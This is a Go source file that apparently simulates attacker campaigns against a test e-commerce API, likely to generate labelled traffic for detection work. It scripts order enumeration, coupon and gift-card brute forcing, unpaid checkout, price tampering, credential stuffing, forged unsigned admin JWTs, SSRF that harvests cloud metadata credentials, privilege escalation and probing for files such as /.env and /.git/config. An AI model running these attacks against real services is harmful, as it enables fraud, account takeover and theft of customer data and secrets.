package simulate

import (
	"context"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"time"
)

// account registers the actor's own shop account and logs in. A conflict
// (the account exists from an earlier run with the same seed) is fine.
func (r *runner) account(ctx context.Context, a *actor, email, password, name string, gap time.Duration) error {
	if _, err := r.do(ctx, a, request{step: "register", method: "POST", target: "/api/v2/auth/register", template: "/api/v2/auth/register",
		body: map[string]string{"email": email, "password": password, "name": name}}); err != nil {
		return err
	}
	a.wait(a.jitter(gap))
	return r.signIn(ctx, a, email, password, gap)
}

// signIn logs the actor in; on failure it stays anonymous.
func (r *runner) signIn(ctx context.Context, a *actor, email, password string, gap time.Duration) error {
	resp, err := r.do(ctx, a, request{step: "login", method: "POST", target: "/api/v2/auth/login", template: "/api/v2/auth/login",
		body: map[string]string{"email": email, "password": password}})
	if err != nil {
		return err
	}
	a.wait(a.jitter(gap))
	if tok := jsonString(resp.body, "token"); resp.ok() && tok != "" {
		a.login(tok)
	}
	return nil
}

// get sends a GET and advances the actor by about gap.
func (r *runner) get(ctx context.Context, a *actor, step, target, template string, gap time.Duration) (*response, error) {
	resp, err := r.do(ctx, a, request{step: step, method: "GET", target: target, template: template})
	a.wait(a.jitter(gap))
	return resp, err
}

// post sends a JSON POST and advances the actor by about gap.
func (r *runner) post(ctx context.Context, a *actor, step, target, template string, body any, gap time.Duration) (*response, error) {
	resp, err := r.do(ctx, a, request{step: step, method: "POST", target: target, template: template, body: body})
	a.wait(a.jitter(gap))
	return resp, err
}

var handles = []string{"nightowl", "m.krause", "jdoe", "zer0cool", "pinky", "shopper", "tester", "r00t", "anna.b", "quickbuy"}

// attackerAccount draws credentials for an attacker's own registered account.
func (p *plan) attackerAccount() (email, password, name string) {
	h := pick(p.master, handles)
	return fmt.Sprintf("%s.%04d@mail.test", h, p.master.IntN(10000)), fmt.Sprintf("Hunter2!%04d", p.master.IntN(10000)), h
}

func (p *plan) crackGap() time.Duration {
	return time.Duration(float64(time.Second) / crackRate(p.cfg.Rate))
}

// businessLogic is the business-logic campaign: five attackers abusing the
// shop's flows with their own accounts, between 10% and 45% of the run.
func (p *plan) businessLogic() []script {
	const c = CampaignBusinessLogic
	gap := p.crackGap()
	end := p.at(0.45)
	type cast struct {
		a                     *actor
		email, password, name string
	}
	newCast := func(id string, ident identity) cast {
		e, pw, n := p.attackerAccount()
		return cast{p.newActor(id, c, ident), e, pw, n}
	}
	enum := newCast("bl-enumerator", p.tool("python-requests/2.32.3", header{"Accept-Encoding", "gzip, deflate"}, header{"Connection", "keep-alive"}))
	coupon := newCast("bl-coupon-cracker", p.tool("axios/1.7.2", header{"Accept", "application/json, text/plain, */*"}))
	gift := newCast("bl-giftcard-cracker", p.tool("Go-http-client/1.1", header{"Accept-Encoding", "gzip"}))
	skip := newCast("bl-skip-payment", p.browser())
	tamper := newCast("bl-tamper", p.browser())

	start := func(k cast, f float64) func(ctx context.Context, r *runner) error {
		return func(ctx context.Context, r *runner) error {
			k.a.at = p.at(f)
			return r.account(ctx, k.a, k.email, k.password, k.name, gap)
		}
	}
	return []script{
		func(ctx context.Context, r *runner) error { // BOLA: walk other customers' orders and addresses
			a := enum.a
			if err := start(enum, 0.10)(ctx, r); err != nil {
				return err
			}
			if _, err := r.get(ctx, a, "orders.list", "/api/v2/orders", "/api/v2/orders", gap); err != nil {
				return err
			}
			for id := 1001; id < 3001 && a.at < p.at(0.30); id++ {
				if _, err := r.get(ctx, a, "enumerate.orders", fmt.Sprintf("/api/v2/orders/%d", id), "/api/v2/orders/{id}", gap); err != nil {
					return err
				}
			}
			for id := 501; id < 1501 && a.at < end; id++ {
				if _, err := r.get(ctx, a, "enumerate.addresses", fmt.Sprintf("/api/v2/addresses/%d", id), "/api/v2/addresses/{id}", gap); err != nil {
					return err
				}
			}
			return nil
		},
		func(ctx context.Context, r *runner) error { // coupon cracking: SAVE0000, SAVE0001, ...
			a := coupon.a
			if err := start(coupon, 0.11)(ctx, r); err != nil {
				return err
			}
			found := ""
			for i := 0; i < 10000 && found == "" && a.at < end; i++ {
				code := fmt.Sprintf("SAVE%04d", i)
				resp, err := r.post(ctx, a, "coupon.crack", "/api/v2/coupons/validate", "/api/v2/coupons/validate", map[string]string{"code": code}, gap)
				if err != nil {
					return err
				}
				if resp.ok() && jsonValue(resp.body, "valid") != false {
					found = code
					r.achieve(a, "coupon-found")
				}
			}
			if found == "" {
				return nil
			}
			if _, err := r.post(ctx, a, "cart.add", "/api/v2/cart/items", "/api/v2/cart/items", map[string]int{"product_id": 1 + a.rng.IntN(200), "quantity": 1}, gap); err != nil {
				return err
			}
			_, err := r.post(ctx, a, "coupon.use", "/api/v2/checkout/quote", "/api/v2/checkout/quote", map[string]string{"coupon": found}, gap)
			return err
		},
		func(ctx context.Context, r *runner) error { // gift-card cracking: GC-0000, GC-0001, ... then spend it
			a := gift.a
			if err := start(gift, 0.12)(ctx, r); err != nil {
				return err
			}
			found := ""
			for i := 0; i < 10000 && found == "" && a.at < end; i++ {
				code := fmt.Sprintf("GC-%04d", i)
				resp, err := r.get(ctx, a, "giftcard.crack", "/api/v2/giftcards/"+code+"/balance", "/api/v2/giftcards/{code}/balance", gap)
				if err != nil {
					return err
				}
				if resp.ok() {
					found = code
					r.achieve(a, "giftcard-found")
				}
			}
			if found == "" {
				return nil
			}
			slow := 5 * gap
			if _, err := r.post(ctx, a, "cart.add", "/api/v2/cart/items", "/api/v2/cart/items", map[string]int{"product_id": 1 + a.rng.IntN(200), "quantity": 1}, slow); err != nil {
				return err
			}
			resp, err := r.post(ctx, a, "checkout.quote", "/api/v2/checkout/quote", "/api/v2/checkout/quote", map[string]string{}, slow)
			if err != nil {
				return err
			}
			quoteID := jsonValue(resp.body, "quote_id")
			resp, err = r.post(ctx, a, "giftcard.use", "/api/v2/checkout/pay", "/api/v2/checkout/pay", map[string]any{"quote_id": quoteID, "gift_card": found}, slow)
			if err != nil {
				return err
			}
			_, err = r.post(ctx, a, "checkout.confirm", "/api/v2/checkout/confirm", "/api/v2/checkout/confirm",
				map[string]any{"quote_id": quoteID, "payment_id": jsonValue(resp.body, "payment_id")}, slow)
			return err
		},
		func(ctx context.Context, r *runner) error { // checkout without payment: quote -> confirm
			a := skip.a
			if err := start(skip, 0.20)(ctx, r); err != nil {
				return err
			}
			slow := 10 * gap
			for range 3 {
				if _, err := r.post(ctx, a, "cart.add", "/api/v2/cart/items", "/api/v2/cart/items", map[string]int{"product_id": 1 + a.rng.IntN(200), "quantity": 1 + a.rng.IntN(3)}, slow); err != nil {
					return err
				}
				resp, err := r.post(ctx, a, "checkout.quote", "/api/v2/checkout/quote", "/api/v2/checkout/quote", map[string]string{}, slow)
				if err != nil {
					return err
				}
				fake := fmt.Sprintf("pay_%012x", a.rng.Uint64()>>16)
				resp, err = r.post(ctx, a, "checkout.confirm-unpaid", "/api/v2/checkout/confirm", "/api/v2/checkout/confirm",
					map[string]any{"quote_id": jsonValue(resp.body, "quote_id"), "payment_id": fake}, slow)
				if err != nil {
					return err
				}
				if resp.ok() {
					r.achieve(a, "unpaid-order")
				}
				a.wait(a.jitter(4 * slow))
			}
			return nil
		},
		func(ctx context.Context, r *runner) error { // quantity and price tampering, a self-made coupon
			a := tamper.a
			if err := start(tamper, 0.25)(ctx, r); err != nil {
				return err
			}
			slow := 10 * gap
			steps := []struct {
				step, target, template string
				body                   any
			}{
				{"cart.negative-quantity", "/api/v2/cart/items", "/api/v2/cart/items", map[string]int{"product_id": 1 + a.rng.IntN(200), "quantity": -5}},
				{"cart.price-tamper", "/api/v2/cart/items", "/api/v2/cart/items", map[string]any{"product_id": 1 + a.rng.IntN(200), "quantity": 2, "price": 0.01}},
				{"admin.coupon-create", "/api/v2/admin/coupons", "/api/v2/admin/coupons", map[string]any{"code": fmt.Sprintf("FREE%04d", a.rng.IntN(10000)), "discount": 100}},
			}
			for _, s := range steps {
				if _, err := r.post(ctx, a, s.step, s.target, s.template, s.body, slow); err != nil {
					return err
				}
			}
			if _, err := r.get(ctx, a, "cart.view", "/api/v2/cart", "/api/v2/cart", slow); err != nil {
				return err
			}
			resp, err := r.post(ctx, a, "checkout.quote", "/api/v2/checkout/quote", "/api/v2/checkout/quote", map[string]string{}, slow)
			if err != nil {
				return err
			}
			quoteID := jsonValue(resp.body, "quote_id")
			resp, err = r.post(ctx, a, "checkout.pay", "/api/v2/checkout/pay", "/api/v2/checkout/pay", map[string]any{"quote_id": quoteID, "card": testCards[0]}, slow)
			if err != nil {
				return err
			}
			_, err = r.post(ctx, a, "checkout.confirm", "/api/v2/checkout/confirm", "/api/v2/checkout/confirm",
				map[string]any{"quote_id": quoteID, "payment_id": jsonValue(resp.body, "payment_id")}, slow)
			return err
		},
	}
}

var commonPasswords = []string{"123456", "Password1", "qwerty123", "Summer2024!", "letmein", "Passw0rd!", "Welcome1", "iloveyou", "Winter2023", "P@ssw0rd"}

// leakedPairs is the chained campaign's credential list: mostly wrong, with
// user7's real pair somewhere in the second half.
func (p *plan) leakedPairs() [][2]string {
	var pairs [][2]string
	for range 40 {
		if p.master.IntN(4) == 0 {
			pairs = append(pairs, [2]string{fmt.Sprintf("%s%d@mail.test", pick(p.master, handles), p.master.IntN(100)), pick(p.master, commonPasswords)})
			continue
		}
		n := 8 + p.master.IntN(493) // anyone but user1..user7
		pairs = append(pairs, [2]string{fmt.Sprintf("user%d@shop.test", n), pick(p.master, commonPasswords)})
	}
	at := 20 + p.master.IntN(15)
	pairs[at] = [2]string{"user7@shop.test", "Passw0rd!7"}
	return pairs
}

// chained is the chained campaign: recon, credential stuffing, JWT forgery,
// SSRF and bulk export, from 15% to 70% of the run. One box does the recon
// and the stuffing; a second one uses what was stolen.
func (p *plan) chained() []script {
	const c = CampaignChained
	gap := p.crackGap()
	recon := p.newActor("chain-recon", c, p.tool("python-requests/2.31.0", header{"Accept-Encoding", "gzip, deflate"}, header{"Connection", "keep-alive"}))
	exploit := p.newActor("chain-exploit", c, p.tool("curl/8.5.0"))
	pairs := p.leakedPairs()
	return []script{func(ctx context.Context, r *runner) error {
		a := recon
		a.at = p.at(0.15)
		slow := 3 * gap
		for _, path := range []string{"/", "/api/v2/products", "/openapi.json", "/swagger.json", "/api/v2/users", "/api/v2/admin", "/api/v2/config", "/robots.txt"} {
			if _, err := r.get(ctx, a, "recon", path, templateOf(path), slow); err != nil {
				return err
			}
		}
		var stolen string
		for _, pair := range pairs {
			resp, err := r.post(ctx, a, "credential-stuffing", "/api/v2/auth/login", "/api/v2/auth/login", map[string]string{"email": pair[0], "password": pair[1]}, gap)
			if err != nil {
				return err
			}
			if tok := jsonString(resp.body, "token"); resp.ok() && tok != "" && stolen == "" && pair[0] == "user7@shop.test" {
				stolen = tok
				r.achieve(a, "account-stolen")
			}
		}

		a = exploit
		a.at = max(recon.at+10*slow, p.at(0.35))
		if stolen != "" {
			a.login(stolen)
			if _, err := r.get(ctx, a, "account-takeover", "/api/v2/users/me", "/api/v2/users/me", slow); err != nil {
				return err
			}
		}
		sub := jwtSubject(stolen)
		if sub == "" {
			sub = "7"
		}
		forged := unsignedJWT(map[string]any{"sub": sub, "email": "admin@shop.test", "role": "admin", "iat": 1700000000, "exp": 4100000000})
		saved := a.token
		a.login(forged)
		for _, path := range []string{"/api/v1/account", "/api/v2/admin/users", "/api/v2/admin/stats"} {
			if _, err := r.get(ctx, a, "jwt-forgery", path, path, slow); err != nil {
				return err
			}
		}
		a.login(saved)

		if err := r.forgeImport(ctx, a, slow); err != nil {
			return err
		}

		// Escalate the stolen account by mass assignment, then export.
		if stolen != "" {
			if _, err := r.do(ctx, a, request{step: "privilege-escalation", method: "PATCH", target: "/api/v2/users/me", template: "/api/v2/users/me",
				body: map[string]string{"role": "admin"}}); err != nil {
				return err
			}
			a.wait(a.jitter(slow))
			if err := r.signIn(ctx, a, "user7@shop.test", "Passw0rd!7", slow); err != nil {
				return err
			}
		}
		escalated := a.token
		a.login(forged)
		resp, err := r.get(ctx, a, "bulk-export", "/api/v1/export/users", "/api/v1/export/users", slow)
		if err != nil {
			return err
		}
		if resp.ok() {
			r.achieve(a, "users-exported")
		}
		if escalated != "" {
			a.login(escalated)
		}
		for page := 1; page <= 5; page++ {
			if _, err := r.get(ctx, a, "bulk-export", fmt.Sprintf("/api/v2/admin/users?page=%d&limit=100", page), "/api/v2/admin/users", gap); err != nil {
				return err
			}
		}
		return nil
	}}
}

// forgeImport makes the shop fetch the SSRF target. A target ending in "/" is a
// metadata listing: the attacker reads the role name from it and fetches
// that role's credentials next.
func (r *runner) forgeImport(ctx context.Context, a *actor, gap time.Duration) error {
	resp, err := r.post(ctx, a, "ssrf", "/api/v2/imports", "/api/v2/imports", map[string]string{"url": r.ssrf}, gap)
	if err != nil {
		return err
	}
	r.noteSSRF(a, resp)
	if !strings.HasSuffix(r.ssrf, "/") {
		return nil
	}
	role := roleFromListing(resp.body)
	if role == "" {
		return nil
	}
	resp, err = r.post(ctx, a, "ssrf", "/api/v2/imports", "/api/v2/imports", map[string]string{"url": r.ssrf + url.PathEscape(role)}, gap)
	if err != nil {
		return err
	}
	r.noteSSRF(a, resp)
	return nil
}

var leakedSecret = regexp.MustCompile(`(?i)SecretAccessKey|AccessKeyId|jwt_secret|jwtsecret|partner_key|partnerkey`)

func (r *runner) noteSSRF(a *actor, resp *response) {
	if resp.ok() && leakedSecret.Match(resp.body) {
		r.achieve(a, "ssrf-credentials")
	}
}

var roleName = regexp.MustCompile(`^[A-Za-z0-9_+=,.@-]{1,64}$`)

// roleFromListing finds the first role name in a metadata listing that came
// back through the import endpoint: raw text, or JSON carrying the text.
func roleFromListing(body []byte) string {
	texts := []string{string(body)}
	walkJSON(body, func(_ string, v any) bool {
		if s, ok := v.(string); ok {
			texts = append(texts, s)
		}
		return true
	})
	for _, t := range texts[1:] { // JSON strings first, then the raw body
		if role := firstRoleLine(t); role != "" {
			return role
		}
	}
	if len(texts) == 1 {
		return firstRoleLine(texts[0])
	}
	return ""
}

func firstRoleLine(s string) string {
	for line := range strings.SplitSeq(s, "\n") {
		line = strings.TrimSpace(line)
		if roleName.MatchString(line) && !strings.Contains(line, "://") && len(line) > 2 {
			return line
		}
	}
	return ""
}

// templateOf turns numeric path segments into {id}.
func templateOf(path string) string {
	segs := strings.Split(path, "/")
	for i, s := range segs {
		if s != "" && strings.Trim(s, "0123456789") == "" {
			segs[i] = "{id}"
		}
	}
	return strings.Join(segs, "/")
}

// shadowWordlist is what the shadow campaign probes: common leftovers and
// version rolls of the documented API.
var shadowWordlist = []string{
	"/.env", "/.git/config", "/actuator/health", "/actuator/env", "/swagger.json", "/openapi.json", "/api-docs",
	"/api/internal", "/graphql", "/api/v3/users/1", "/api/v2/users/1", "/api/v1/users/1", "/api/v1/orders/1001",
	"/api/v1/account", "/internal/debug", "/internal/metrics", "/api/v1/export/users", "/admin", "/server-status",
	"/debug/pprof/", "/api/v0/users/1", "/backup.zip",
}

// shadow is the shadow campaign: a wordlist and version-rolling probe that
// finds the /api/v1 twins and /internal/debug, then harvests through them,
// from 25% to 60% of the run.
func (p *plan) shadow() []script {
	const c = CampaignShadow
	gap := 2 * p.crackGap()
	a := p.newActor("shadow-prober", c, p.tool("Fuzz Faster U Fool v2.1.0-dev"))
	email, password, name := p.attackerAccount()
	return []script{func(ctx context.Context, r *runner) error {
		a.at = p.at(0.25)
		if err := r.account(ctx, a, email, password, name, gap); err != nil {
			return err
		}
		found := map[string]bool{}
		for _, path := range shadowWordlist {
			resp, err := r.get(ctx, a, "probe", path, templateOf(path), gap)
			if err != nil {
				return err
			}
			if resp.ok() {
				found[path] = true
				if path == "/internal/debug" {
					r.achieve(a, "debug-found")
				}
				if path == "/api/v1/users/1" {
					r.achieve(a, "v1-twin-found")
				}
			}
		}
		end := p.at(0.60)
		if found["/api/v1/users/1"] {
			for id := 2; id <= 200 && a.at < end; id++ {
				if _, err := r.get(ctx, a, "use.v1-users", fmt.Sprintf("/api/v1/users/%d", id), "/api/v1/users/{id}", gap); err != nil {
					return err
				}
			}
		}
		if found["/api/v1/orders/1001"] {
			for id := 1002; id <= 1020; id++ {
				if _, err := r.get(ctx, a, "use.v1-orders", fmt.Sprintf("/api/v1/orders/%d", id), "/api/v1/orders/{id}", gap); err != nil {
					return err
				}
			}
		}
		if found["/internal/debug"] {
			if _, err := r.get(ctx, a, "use.debug", "/internal/debug", "/internal/debug", gap); err != nil {
				return err
			}
		}
		if found["/api/v1/export/users"] {
			if _, err := r.get(ctx, a, "use.export", "/api/v1/export/users", "/api/v1/export/users", gap); err != nil {
				return err
			}
		}
		return nil
	}}
}
